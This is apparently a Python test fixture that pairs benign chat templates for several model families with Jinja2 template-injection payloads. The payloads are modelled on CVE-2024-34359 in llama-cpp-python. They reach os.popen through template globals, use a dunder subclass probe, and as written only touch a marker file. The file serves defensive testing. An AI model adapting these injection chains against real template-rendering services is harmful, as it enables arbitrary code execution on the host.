"""Realistic chat templates (benign) and template-injection payloads (harmless: they touch a marker file)."""

from __future__ import annotations

LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim"
    " + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"
)

MISTRAL = (
    "{{ bos_token }}{% for message in messages %}"
    "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}"
    "{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}"
)

CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + "
    "'\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)

GEMMA = (
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}"
    "{{ raise_exception('System role not supported') }}{% endif %}{% for message in messages %}"
    "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}"
    "{% endif %}{{ '<start_of_turn>' + role + '\n' + message['content'] | trim + '<end_of_turn>\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{'<start_of_turn>model\n'}}{% endif %}"
)

PHI3 = (
    "{% for message in messages %}{% if message['role'] == 'system' %}"
    "{{'<|system|>\n' + message['content'] + '<|end|>\n'}}{% elif message['role'] == 'user' %}"
    "{{'<|user|>\n' + message['content'] + '<|end|>\n'}}{% elif message['role'] == 'assistant' %}"
    "{{'<|assistant|>\n' + message['content'].strip() + '<|end|>\n'}}{% endif %}"
    "{% if loop.last and add_generation_prompt %}{{ '<|assistant|>\n' }}{% endif %}{% endfor %}"
)

QWEN_TOOLS = (
    "{% set ns = namespace(found=false) %}{% for message in messages %}"
    "{% if message['role'] == 'system' %}{% set ns.found = true %}{% endif %}{% endfor %}"
    "{% if not ns.found %}{{ '<|im_start|>system\nYou are a helpful assistant.<|im_end|>\n' }}{% endif %}"
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\n' + message['content'] | trim }}"
    "{{ '<|im_end|>\n' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)

BENIGN = {"llama3": LLAMA3, "mistral": MISTRAL, "chatml": CHATML, "gemma": GEMMA, "phi3": PHI3, "qwen": QWEN_TOOLS}


def cve_2024_34359(marker: str) -> str:
    """The payload style published for CVE-2024-34359 (llama-cpp-python), touching ``marker``."""
    return (
        "{% for message in messages %}{{ message['content'] }}{% endfor %}"
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('touch " + marker + "').read() }}"
    )


def via_set_alias(marker: str) -> str:
    """Same chain split over `{% set %}` aliases and an item lookup."""
    return (
        "{% set g = lipsum.__globals__ %}{% set o = g['os'] %}{{ o.popen('touch " + marker + "').read() }}"
        "{{ bos_token }}"
    )


DUNDER_ONLY = "{{ ().__class__.__base__.__subclasses__() | length }}{% for m in messages %}{{ m.content }}{% endfor %}"
